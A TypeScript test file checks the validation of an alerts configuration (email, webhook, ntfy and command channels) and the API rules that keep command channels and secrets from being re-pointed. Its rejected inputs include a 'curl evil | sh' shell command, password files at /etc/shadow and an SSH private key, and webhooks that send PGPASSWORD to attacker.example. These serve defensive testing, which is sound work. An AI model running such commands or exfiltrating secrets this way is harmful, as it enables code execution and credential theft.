// The `alerts:` section: the issue's example is the contract, every problem is told with the field to change,
// and what runs a program or reads a file cannot be set through the API.
import { describe, expect, it } from 'vitest';
import { apiChannelEditProblems } from '../../../shared/api-edit-rules';
import { validateConfig } from '../../../shared/config';

const issueExample = {
  alerts: {
    channels: [
      {
        id: 'ops-mail',
        kind: 'email',
        to: ['ops@example.com'],
        from: 'backup-health@example.com',
        smtp: { host: 'mail.example.com', port: 587, tls: 'starttls', user: 'bh', passwordEnv: 'SMTP_PASSWORD' },
        minStatus: 'warning',
      },
      { id: 'ops-hook', kind: 'webhook', url: 'https://hooks.example.com/backup', minStatus: 'critical', remindEvery: '24h', recoveries: true },
      { id: 'pager', kind: 'command', command: ['/usr/local/bin/page-oncall', '--team', 'dba'] },
    ],
    heartbeat: { url: 'https://hc-ping.com/0f3a', every: '5m' },
  },
};

function problems(alerts: unknown) {
  const result = validateConfig({ alerts });
  return result.ok ? [] : result.problems;
}

describe('alerts config', () => {
  it("takes the issue's example, with durations in ms and the defaults filled in", () => {
    const result = validateConfig(issueExample);
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    const [mail, hook, pager] = result.config.alerts!.channels;
    expect(mail).toMatchObject({ kind: 'email', minStatus: 'warning', recoveries: true, smtp: { tls: 'starttls', passwordEnv: 'SMTP_PASSWORD' } });
    expect(hook).toMatchObject({ kind: 'webhook', minStatus: 'critical', remindEvery: 86_400_000 });
    expect(pager).toMatchObject({ kind: 'command', minStatus: 'warning', recoveries: true, timeout: 10_000 });
    expect(result.config.alerts!.heartbeat).toEqual({ url: 'https://hc-ping.com/0f3a', every: 300_000 });
  });

  it('a config without alerts has none; an alerts: or channels: with every line commented out is empty', () => {
    const result = validateConfig({});
    expect(result.ok && result.config.alerts).toBeUndefined();
    for (const alerts of [null, { channels: null }]) {
      const empty = validateConfig({ alerts });
      expect(empty.ok && empty.config.alerts).toEqual({ channels: [] });
    }
  });

  it('names a wrong channel kind with the channel kinds, not the source kinds', () => {
    expect(problems({ channels: [{ id: 'a', kind: 'pager' }] })).toEqual([
      { path: 'alerts.channels[0].kind', message: 'must be one of webhook, ntfy, slack, email, command; it is "pager"' },
    ]);
  });

  it('reports every problem at once, each at its field', () => {
    const found = problems({
      channels: [
        { id: 'a', kind: 'webhook', url: 'https://x.example/h', remindEvery: 5 },
        { id: 'a', kind: 'slack' },
        { id: 'b', kind: 'email', to: [], from: 'x', smtp: { host: 'h', user: 'u' } },
        { id: 'c', kind: 'ntfy', topic: 'ops', passwordEnv: 'A', passwordFile: '/etc/x' },
        { id: 'd', kind: 'webhook', url: 'https://x.example/h', remindEvery: '1s' },
      ],
    });
    const at = (path: string) => found.filter((p) => p.path === path).map((p) => p.message);
    expect(at('alerts.channels[0].remindEvery')).toEqual(['expected a duration like 26h, found the number 5 (write it with its unit: 90s, 15m, 26h, 7d)']);
    expect(at('alerts.channels[1].id')).toEqual(['"a" is used by another channel; ids must be unique']);
    expect(at('alerts.channels[1].url')).toEqual(['is required: set url, or urlEnv naming an environment variable that holds it']);
    expect(at('alerts.channels[2].to')).toEqual(['must have at least 1 item, found 0 items']);
    expect(at('alerts.channels[2].from')[0]).toMatch(/^must be an e-mail address like ops@example.com; found the text "x"/);
    expect(at('alerts.channels[2].smtp.passwordEnv')[0]).toMatch(/without a password: set passwordEnv or passwordFile/);
    expect(at('alerts.channels[3].passwordFile')).toEqual(['set passwordEnv or passwordFile, not both']);
    expect(at('alerts.channels[4].remindEvery')[0]).toMatch(/^must be at least 10s \(found 1s\)/);
  });

  it("bounds a channel's timeout to 10 minutes: no send may wait longer (nor overflow Node's timers)", () => {
    const at = (timeout: string) => problems({ channels: [{ id: 'h', kind: 'webhook', url: 'https://x.example/h', timeout }] }).map((p) => `${p.path}: ${p.message}`);
    expect(at('10m')).toEqual([]);
    expect(at('30d')).toEqual([expect.stringMatching(/^alerts\.channels\[0\]\.timeout: must be at most 10m \(found 30d\)/)]);
  });

  it('never echoes a secret: a URL with a password, a webhook URL of the wrong type', () => {
    const found = problems({ channels: [{ id: 'a', kind: 'slack', url: 'https://u:hunter2@hooks.example/T1/B2' }, { id: 'b', kind: 'slack', url: 12345 }] });
    expect(found.map((p) => p.path)).toEqual(['alerts.channels[0].url', 'alerts.channels[1].url']);
    expect(JSON.stringify(found)).not.toMatch(/hunter2|12345/);
  });

  it('refuses an unknown key, and in a header a value that is neither text nor { env }', () => {
    const found = problems({ channels: [{ id: 'a', kind: 'webhook', url: 'https://x.example/h', header: {} }, { id: 'b', kind: 'webhook', url: 'https://x.example/h', headers: { 'X-Token': { file: '/etc/shadow' } } }] });
    expect(found.map((p) => p.path)).toEqual(expect.arrayContaining(['alerts.channels[0].header', 'alerts.channels[1].headers.X-Token']));
  });
});

describe('alert channel edits through the API', () => {
  it('refuses to add a command channel or change its command; keeps one as the file has it', () => {
    const stored = { id: 'pager', kind: 'command', command: ['/usr/local/bin/page-oncall'] };
    expect(apiChannelEditProblems({ id: 'x', kind: 'command', command: ['/bin/sh', '-c', 'curl evil | sh'] }, undefined).map((p) => p.path)).toEqual(['command']);
    expect(apiChannelEditProblems({ ...stored, command: ['/bin/sh'] }, stored)[0]?.message).toMatch(/^a command channel is set in the config file only \(it names a program/);
    expect(apiChannelEditProblems({ ...stored, minStatus: 'critical' }, stored)).toEqual([]);
    // a webhook turned into a command channel is adding one
    expect(apiChannelEditProblems({ id: 'h', kind: 'command', command: ['/bin/true'] }, { id: 'h', kind: 'webhook', url: 'https://x' })).toHaveLength(1);
  });

  it('refuses to set or change a passwordFile, top-level or smtp; keeping or removing one is allowed', () => {
    const stored = { id: 'm', kind: 'email', smtp: { host: 'h', user: 'u', passwordFile: '/etc/bh/smtp' } };
    expect(apiChannelEditProblems({ ...stored, smtp: { host: 'h', user: 'u', passwordFile: '/root/.ssh/id_ed25519' } }, stored).map((p) => p.path)).toEqual(['smtp.passwordFile']);
    expect(apiChannelEditProblems({ id: 'n', kind: 'ntfy', topic: 't', passwordFile: '/etc/shadow' }, undefined).map((p) => p.path)).toEqual(['passwordFile']);
    expect(apiChannelEditProblems(stored, stored)).toEqual([]);
    expect(apiChannelEditProblems({ ...stored, smtp: { host: 'h', user: 'u' } }, stored)).toEqual([]);
    // nor is it swapped for a variable: that is file-only too (below)
    expect(apiChannelEditProblems({ ...stored, smtp: { host: 'h', user: 'u', passwordEnv: 'SMTP_PASSWORD' } }, stored).map((p) => p.path)).toEqual(['smtp.passwordEnv']);
  });
});

describe('environment secrets of a channel edited through the API', () => {
  const stored = { id: 'm', kind: 'email', to: ['ops@example.com'], from: 'bh@example.com', smtp: { host: 'mail.example.com', port: 587, tls: 'starttls', user: 'bh', passwordEnv: 'SMTP_PASSWORD' } };

  it('a channel keeping its variable keeps its destination: no re-pointing the SMTP password at another server', () => {
    expect(apiChannelEditProblems({ ...stored, to: ['dba@example.com'], minStatus: 'critical' }, stored)).toEqual([]);
    const moved = apiChannelEditProblems({ ...stored, smtp: { ...stored.smtp, host: 'mail.attacker.example', tls: 'none' } }, stored);
    expect(moved.map((p) => p.path)).toEqual(['smtp.host', 'smtp.tls']);
    expect(moved[0]!.message).toBe('smtp.host is set in the config file only (the channel sends a secret from the environment there); edit the config file to change it');
  });

  it('no variable is added or renamed: a new webhook cannot carry PGPASSWORD to a URL of its own', () => {
    const added = apiChannelEditProblems({ id: 'x', kind: 'webhook', url: 'https://attacker.example/', headers: { 'X-Leak': { env: 'PGPASSWORD' } } }, undefined);
    expect(added.map((p) => p.path)).toEqual(['headers.X-Leak']);
    expect(apiChannelEditProblems({ id: 'n', kind: 'ntfy', topic: 't', url: 'https://attacker.example', passwordEnv: 'SMTP_PASSWORD' }, undefined).map((p) => p.path)).toEqual(['passwordEnv']);
    expect(apiChannelEditProblems({ ...stored, smtp: { ...stored.smtp, passwordEnv: 'PGPASSWORD' } }, stored).map((p) => p.path)).toEqual(['smtp.passwordEnv']);
    // a channel without any secret may be created and pointed anywhere
    expect(apiChannelEditProblems({ id: 'h', kind: 'webhook', url: 'https://hooks.example.com/x', headers: { 'X-Team': 'dba' } }, undefined)).toEqual([]);
  });
});

describe('passwords kept in the keychain and the heartbeat from the environment', () => {
  const mail = { id: 'm', kind: 'email', to: ['ops@example.com'], from: 'bh@example.com', smtp: { host: 'mail.example.com', user: 'bh', passwordStored: true } };

  it('passwordStored stands for the password on an e-mail, ntfy or webhook channel, and not beside passwordEnv or passwordFile', () => {
    expect(problems({ channels: [mail, { id: 'n', kind: 'ntfy', topic: 't', user: 'bh', passwordStored: true }, { id: 'w', kind: 'webhook', url: 'https://hooks.example.com/x', passwordStored: true }] })).toEqual([]);
    const both = problems({ channels: [{ ...mail, smtp: { ...mail.smtp, passwordEnv: 'SMTP_PASSWORD' } }] });
    expect(both).toEqual([
      { path: 'alerts.channels[0].smtp.passwordStored', message: "the desktop app keeps this channel's password in the keychain (passwordStored), and passwordEnv is set too; keep one of them" },
    ]);
    expect(problems({ channels: [{ id: 's', kind: 'slack', url: 'https://hooks.slack.com/services/x', passwordStored: true }] }).map((p) => p.path)).toEqual(['alerts.channels[0].passwordStored']);
    const header = problems({ channels: [{ id: 'w', kind: 'webhook', url: 'https://hooks.example.com/x', passwordStored: true, headers: { Authorization: 'Basic eDp5' } }] });
    expect(header.map((p) => p.path)).toEqual(['alerts.channels[0].headers.Authorization']);
  });

  it('heartbeat: url or urlEnv, exactly one, each problem at its field', () => {
    const ok = validateConfig({ alerts: { heartbeat: { urlEnv: 'HC_URL', every: '10m' } } });
    expect(ok.ok && ok.config.alerts?.heartbeat).toEqual({ urlEnv: 'HC_URL', every: 600_000 });
    expect(problems({ heartbeat: { every: '5m' } })).toEqual([{ path: 'alerts.heartbeat.url', message: 'is required: set url, or urlEnv naming an environment variable that holds the ping URL' }]);
    expect(problems({ heartbeat: { url: 'https://hc-ping.com/k', urlEnv: 'HC_URL' } })).toEqual([{ path: 'alerts.heartbeat.urlEnv', message: 'set url or urlEnv, not both' }]);
    expect(problems({ heartbeat: { urlEnv: 'hc-url' } }).map((p) => p.path)).toEqual(['alerts.heartbeat.urlEnv']);
  });

  it('through the API, passwordStored comes only with a password entered, and a kept password keeps its destination', () => {
    const stored = { ...mail };
    expect(apiChannelEditProblems({ id: 'n', kind: 'ntfy', topic: 't', passwordStored: true }, undefined).map((p) => p.path)).toEqual(['password']);
    expect(apiChannelEditProblems({ id: 'n', kind: 'ntfy', topic: 't', passwordStored: true }, undefined, { passwordEntered: true })).toEqual([]);
    expect(apiChannelEditProblems({ ...mail, to: ['dba@example.com'] }, stored)).toEqual([]);
    const moved = apiChannelEditProblems({ ...mail, smtp: { ...mail.smtp, host: 'mail.attacker.example' } }, stored);
    expect(moved).toEqual([{ path: 'password', message: 'the kept password is sent only where it was entered for, and smtp.host changed: enter the password again' }]);
    expect(apiChannelEditProblems({ ...mail, smtp: { ...mail.smtp, host: 'mail2.example.com' } }, stored, { passwordEntered: true })).toEqual([]);
  });
});
